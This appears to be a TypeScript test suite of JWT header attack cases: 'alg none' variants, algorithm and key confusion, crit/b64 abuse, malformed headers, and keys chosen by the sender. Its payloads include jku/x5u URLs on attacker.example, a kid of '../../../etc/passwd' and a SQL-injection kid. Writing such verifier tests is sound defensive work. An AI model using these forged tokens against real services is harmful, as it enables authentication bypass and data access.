import { generateKeyPairSync, sign as signWith } from 'node:crypto';
import { base64url, forge, resign, segmentsOf } from '../tokens.ts';
import { attackersKey, header, type Attack } from './attack.ts';

const casings = (word: string): string[] =>
  Array.from({ length: 2 ** word.length }, (_, mask) =>
    word.replaceAll(/./g, (char, at: number) => ((mask >> at) & 1 ? char.toUpperCase() : char)),
  );

const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
const publicPem = rsa.publicKey.export({ type: 'spki', format: 'pem' });

const foreignKeys: object[] = [
  { jwk: { kty: 'oct', k: base64url(attackersKey), alg: 'HS256' } },
  { jku: 'https://attacker.example/keys.json' },
  { x5u: 'https://attacker.example/cert.pem' },
  { x5c: [base64url(attackersKey)] },
  { kid: '/dev/null' },
  { kid: '../../../etc/passwd' },
  { kid: "x' UNION SELECT 'key" },
  { kid: 'k'.repeat(100_000) },
];

/** Tricks with a token's header, each with a signature as good as an outsider, or a careless library, makes it. */
export const headerAttacks: Attack[] = [
  {
    name: 'HDR-01 alg none in every casing, with an empty, a borrowed and a real MAC',
    bodies: ({ claims, token, secret }) =>
      casings('none').flatMap((alg) => {
        const forged = forge({ ...header, alg }, claims, secret);
        const [h, p] = segmentsOf(forged);
        return [`${h}.${p}.`, `${h}.${p}`, `${h}.${p}.${segmentsOf(token)[2]}`, forged];
      }),
    twins: ({ claims, secret }) => [forge({ ...header, alg: 'HS256' }, claims, secret)],
  },
  {
    name: 'HDR-02 alg in other writing, of other type, empty, missing',
    bodies: ({ claims, secret }) =>
      ['hs256', 'HS256 ', '', 'HS255', null, ['HS256'], 256, { HS256: true }, undefined].map(
        (alg) => forge({ typ: 'JWT', alg }, claims, secret),
      ),
    twins: ({ claims, secret }) => [forge({ typ: 'JWT', alg: 'HS256' }, claims, secret)],
  },
  {
    name: 'HDR-03 HS384 and HS512 with the right secret',
    bodies: ({ claims, secret }) =>
      (['sha384', 'sha512'] as const).flatMap((hash) => [
        forge({ alg: `HS${hash.slice(3)}` }, claims, secret, hash),
        forge(header, claims, secret, hash),
      ]),
    twins: ({ claims, secret }) => [forge(header, claims, secret, 'sha256')],
  },
  {
    name: 'HDR-04 the header of another algorithm over a MAC with the secret',
    bodies: ({ claims, secret }) =>
      ['RS256', 'PS256', 'ES256', 'EdDSA', 'Ed25519', 'HS384', 'HS512', 'dir', 'A128KW'].map(
        (alg) => forge({ alg }, claims, secret),
      ),
    twins: ({ claims, secret }) => [forge({ alg: 'HS256' }, claims, secret)],
  },
  {
    name: 'HDR-04 key confusion: a real RS256 signature, and a MAC keyed with the public key',
    bodies: ({ claims }) => {
      const signed = `${base64url({ alg: 'RS256' })}.${base64url(claims)}`;
      const signature = signWith('sha256', Buffer.from(signed), rsa.privateKey);
      return [`${signed}.${base64url(signature)}`, forge(header, claims, publicPem)];
    },
  },
  {
    name: 'HDR-07 b64 false with crit, payload plain and encoded, b64 without crit',
    bodies: ({ claims, secret }) => [
      resign(`${base64url({ ...header, b64: false, crit: ['b64'] })}.{"call_id":1}`, secret),
      resign(`${base64url({ ...header, b64: false, crit: ['b64'] })}.plain`, secret),
      forge({ ...header, b64: false, crit: ['b64'] }, claims, secret),
      forge({ ...header, b64: true, crit: ['b64'] }, claims, secret),
      forge({ ...header, b64: false }, claims, secret),
      forge({ ...header, b64: true }, claims, secret),
    ],
  },
  {
    name: 'HDR-07 crit: unknown, empty, twice, no list, naming what is not there',
    bodies: ({ claims, secret }) =>
      [['x'], [], ['exp', 'exp'], 'exp', {}, null, ['alg'], [1], ['__proto__']].map((crit) =>
        forge({ ...header, crit, x: 1, exp: 1 }, claims, secret),
      ),
    twins: ({ claims, secret }) => [forge({ ...header, x: 1, exp: 1 }, claims, secret)],
  },
  {
    name: 'HDR-09 a key of the sender’s own choice in jwk, jku, x5u, x5c and kid',
    bodies: ({ claims }) => {
      return foreignKeys.flatMap((extra) =>
        [attackersKey, ''].map((key) => forge({ ...header, ...extra }, claims, key)),
      );
    },
    twins: ({ claims, secret }) =>
      foreignKeys.map((extra) => forge({ ...header, ...extra }, claims, secret)),
  },
  {
    name: 'HDR-12 flattened and general JSON serialisation',
    bodies: ({ token }) => {
      const [h, payload, signature] = segmentsOf(token);
      return [
        JSON.stringify({ protected: h, payload, signature }),
        JSON.stringify({ payload, signatures: [{ protected: h, signature }] }),
      ];
    },
  },
  {
    name: 'HDR-16 a header that is no JSON object',
    bodies: ({ claims, secret }) =>
      [
        'HS256',
        'null',
        '5',
        '"HS256"',
        '["HS256"]',
        '{"alg":"HS256"',
        '{"alg":"HS256"}}',
        '\uFEFF{"alg":"HS256"',
        Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
        Buffer.alloc(3),
      ].map((broken) => forge(broken, claims, secret)),
  },
];
